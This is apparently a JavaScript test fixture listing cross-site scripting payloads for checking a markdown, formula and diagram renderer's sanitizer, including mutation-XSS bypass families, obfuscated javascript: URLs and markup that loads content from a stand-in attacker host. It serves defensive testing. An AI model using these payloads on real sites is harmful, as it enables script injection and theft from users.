/* SPDX-License-Identifier: MIT */
/**
 * Texts that try to run a script, to reach another host or to break out of
 * where they are shown. `pwn()` stands for what an attacker would do.
 */

const SCRIPT = 'window.pwned=1;alert(1)';

const HTML = [
  `<script>${SCRIPT}</script>`, `<ScRiPt src=//evil.example/x.js></ScRiPt>`, `<img src=x onerror="${SCRIPT}">`,
  `<img src=https://evil.example/a.png>`, `<svg onload="${SCRIPT}">`, `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin="${SCRIPT}" attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${SCRIPT}">`, `<math href="javascript:${SCRIPT}">CLICK</math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`, `<object data="javascript:${SCRIPT}"></object>`, `<embed src="//evil.example">`,
  `<form action="https://evil.example"><button>go</button></form>`, `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style>`, `<body onload="${SCRIPT}">`,
  `<details open ontoggle="${SCRIPT}">`, `<video><source onerror="${SCRIPT}"></video>`, `<audio src=//evil.example/a.mp3 autoplay>`,
  `<input autofocus onfocus="${SCRIPT}">`, `<marquee onstart="${SCRIPT}">`, `<a href="javascript:${SCRIPT}">x</a>`,
  `<div style="background:url(//evil.example/z)">`, `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><script>${SCRIPT}</script></template>`, `<!--><img src=x onerror="${SCRIPT}">-->`, `<![CDATA[<img src=x onerror="${SCRIPT}">]]>`,
  `<?xml-stylesheet href="javascript:${SCRIPT}"?>`, `<p id=root name=md class="md-code" data-where=x>`, `<plaintext><xmp><listing>`,
  `</main></body></html><script>${SCRIPT}</script>`, `<x onclick="${SCRIPT}" tabindex=1 autofocus onfocus="${SCRIPT}">`,
  `<button popovertarget=x onbeforetoggle="${SCRIPT}">`, `<dialog open onclose="${SCRIPT}">`, `<portal src=//evil.example>`,
];

const URLS = [
  `javascript:${SCRIPT}`, `JaVaScRiPt:${SCRIPT}`, `javascript&colon;${SCRIPT}`, `&#106;avascript:${SCRIPT}`, `&#x6A;&#x61;vascript:${SCRIPT}`,
  `java&Tab;script:${SCRIPT}`, `java&NewLine;script:${SCRIPT}`, `&#1;javascript:${SCRIPT}`, `javascript\\:${SCRIPT}`, `%6Aavascript:${SCRIPT}`,
  `//evil.example`, `\\\\evil.example`, `data:text/html,<script>${SCRIPT}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`, `vbscript:msgbox(1)`, `blob:https://evil.example/1`,
  `https://evil.example/"onmouseover="${SCRIPT}`, `https://evil.example/'><img src=x onerror=${SCRIPT}>`, `http://user:pass@evil.example/`,
  `\u0000javascript:${SCRIPT}`, `\u200bjavascript:${SCRIPT}`, `feed:javascript:${SCRIPT}`, `mailto:x@y.example?subject="><script>`, `api/logout`, `#root`,
];

/** @type {string[]} */
export const CORPUS = [
  ...HTML,
  ...HTML.map((html) => `text ${html} text`),
  ...HTML.map((html) => `- ${html}\n\n> ${html}\n\n| a |\n|---|\n| ${html.replaceAll('|', '')} |`),
  ...HTML.map((html) => `\`\`\`html\n${html}\n\`\`\`\n\n\`${html}\`\n\n    ${html}`),
  ...URLS.flatMap((url) => [
    `[click](${url})`, `[click](<${url}>)`, `![image](${url})`, `![image](<${url}>)`, `<${url}>`, `[ref]\n\n[ref]: ${url}`, `[ref]\n\n[ref]: <${url}> "t"`,
    `[![inner](${url})](${url})`, `[click](${url} "title")`, `[![a](https://evil.example/i.png)](https://evil.example/)`,
  ]),
  // Attributes by way of titles, alternative texts, labels and languages.
  `[a](https://x.example '"><img src=x onerror=${SCRIPT}>')`, `![" onerror="${SCRIPT}](https://x.example/a.png "\\" onerror=\\"${SCRIPT}")`,
  `\`\`\`"><img/src=x/onerror=${SCRIPT}>\ncode\n\`\`\``, `\`\`\`js" onload="${SCRIPT}\ncode\n\`\`\``, '```../../../x\ncode\n```', '```__proto__\ncode\n```',
  '```constructor\ncode\n```', '```https://evil.example/x\ncode\n```', '```javascript\n</code></pre><script>alert(1)</script>\n```', '```language-html onerror=x\n<b>\n```',
  // Footnotes and references by awkward names.
  '[^__proto__] [^constructor] [^toString]\n\n[^__proto__]: a\n[^constructor]: b\n[^toString]: c', '[__proto__] [constructor]\n\n[__proto__]: https://x.example\n[constructor]: https://x.example',
  `[^"><img src=x onerror=${SCRIPT}>]\n\n[^"><img src=x onerror=${SCRIPT}>]: note`, '[^1]\n\n[^1]: [^1] <script>alert(1)</script> [x](javascript:alert(1))',
  // Formulas.
  `$\\href{javascript:${SCRIPT}}{x}$`, `$$\\href{javascript:${SCRIPT}}{x}$$`, '$\\url{javascript:alert(1)}$', '$\\includegraphics{https://evil.example/a.png}$',
  `$\\htmlData{x=y" onclick="${SCRIPT}}{x}$`, '$\\htmlId{root}{x}$', '$\\htmlClass{md-code}{x}$', '$\\htmlStyle{background:url(//evil.example)}{x}$',
  `$\\text{<img src=x onerror=${SCRIPT}>}$`, '$\\unicode{x3c}\\color{red" onclick="alert(1)}{x}$', '$\\def\\a{\\a\\a}\\a$', '$\\rule{100000em}{100000em}$',
  '$\\fcolorbox{red}{blue}{x} \\pmb{x} \\colorbox{url(//evil.example)}{x}$', `\\[\\text{</math><script>${SCRIPT}</script>}\\]`, '$\\verb|<img src=x onerror=alert(1)>|$',
  // Families by which sanitizers were got around: what is parsed twice is not the same twice. Each breaks out
  // of where it stands when what was made of it is written down and read again, as in an exported file.
  ...[
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${SCRIPT}">`,
    `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src onerror=${SCRIPT}&gt;">`,
    `<svg><desc><style><!--</style><b id="--><img src onerror=${SCRIPT}>">`, `<svg><title><style><i alt="</style><img src onerror=${SCRIPT}>">`,
    `<svg><foreignObject><p><style><i alt="</style></p></foreignObject></svg><img src onerror=${SCRIPT}>">`,
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src onerror=${SCRIPT}>">`,
    `<noscript><style></noscript><img src onerror="${SCRIPT}"></style>`, `<b><title>&lt;/title&gt;&lt;img src onerror="${SCRIPT}"&gt;`,
    `<textarea>&lt;/textarea&gt;&lt;img src onerror="${SCRIPT}"&gt;</textarea>`, `<xmp>&lt;/xmp&gt;<i id="</xmp><img src onerror=${SCRIPT}>">`,
    `<iframe><i id="</iframe><img src onerror=${SCRIPT}>">`, `<noembed><i id="</noembed><img src onerror=${SCRIPT}>">`,
    `<select><template><style><i id="</style></select><img src onerror=${SCRIPT}>">`, `<select><button><selectedcontent></button><option selected><img src onerror="${SCRIPT}">`,
    `<table><svg><style><i id="</style></table><img src onerror=${SCRIPT}>">`, `<a><svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;style&gt;<i id="</style><img src onerror=${SCRIPT}>">`,
    `<?php <img src onerror="${SCRIPT}"> ?>`, `<!--- --!><img src onerror="${SCRIPT}">`, `<!--x--!<b>--!><img src onerror="${SCRIPT}">-->`, `</x <img src onerror="${SCRIPT}">`,
    `<svg><p><style><i id="</style><img src onerror=${SCRIPT}>"></p></svg>`, `<math></br><style><i id="</style><img src onerror=${SCRIPT}>">`,
    `<b is="x-evil" slot="a" part="b" exportparts="c">x</b>`, `<svg><set attributeName="onmouseover" to="${SCRIPT}"/><animate attributeName="href" values="javascript:${SCRIPT}"/>`,
    `<svg><style>@import '//evil.example/i.css'; * { background: url(//evil.example/b) }</style><image href="//evil.example/c"/><filter><feImage href="//evil.example/d"/></filter>`,
    `${'<div>'.repeat(520)}<table><caption><svg><style><i id="</style><img src onerror=${SCRIPT}>">`,
  ].flatMap((html) => [html, `| a |\n|---|\n| ${html.replaceAll('|', '')} |`, `$\\text{${html.replace(/[{}$]/g, '')}}$`, `[${html}](https://x.example "${html.replaceAll('"', '')}")`]),
  // Mutations and encodings.
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${SCRIPT}></annotation-xml></math>`,
  `<a href="&#x6A;avascript:${SCRIPT}">x</a>`, `<IMG SRC=&#106;&#97;vascript:alert(1)>`, '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u202e<script>alert(1)</script>', '\ufeff<script>alert(1)</script>', '<\u0000script>alert(1)</script>',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
  // Bare addresses.
  'https://evil.example/"onmouseover="alert(1) www.evil.example/<script> javascript:alert(1) x@y.example', 'http://javascript:alert(1)@evil.example', 'www.<img src=x onerror=alert(1)>.com',
];

/** Diagrams that try the same from inside. @type {string[]} */
export const DIAGRAMS = [
  `graph TD\n A["<img src=x onerror='${SCRIPT}'>"] --> B\n click A "javascript:${SCRIPT}"\n click B call alert(1)`,
  `graph TD\n A[<script>${SCRIPT}</script>]\n B["<iframe srcdoc='<script>parent.parent.pwned=1</script>'>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "*{background:url(https://evil.example/x)}"}}%%\ngraph TD\n A["<img src='https://evil.example/a.png'>"]`,
  `---\nconfig:\n  securityLevel: loose\n  theme: base\n  themeVariables:\n    primaryColor: "red;background:url(//evil.example)"\n---\ngraph TD\n A-->B`,
  `sequenceDiagram\n Alice->>Bob: <svg/onload=${SCRIPT}>\n link Alice: x @ javascript:${SCRIPT}`,
  `classDiagram\n class A\n link A "javascript:${SCRIPT}" "t"\n callback A "alert"`,
  `graph TD\n A@{ img: "https://evil.example/a.png", label: "x" }`,
  `graph TD\n A@{ icon: "evil:x" }`,
  `gantt\n title </style><script>${SCRIPT}</script>\n section A\n T :a, 2024-01-01, 1d\n click a href "javascript:${SCRIPT}"`,
  `graph TD\n ${'A-->B\n'.repeat(2_000)}`,
  `graph TD\n A["$$\\\\href{javascript:${SCRIPT}}{x}$$"]`,
];
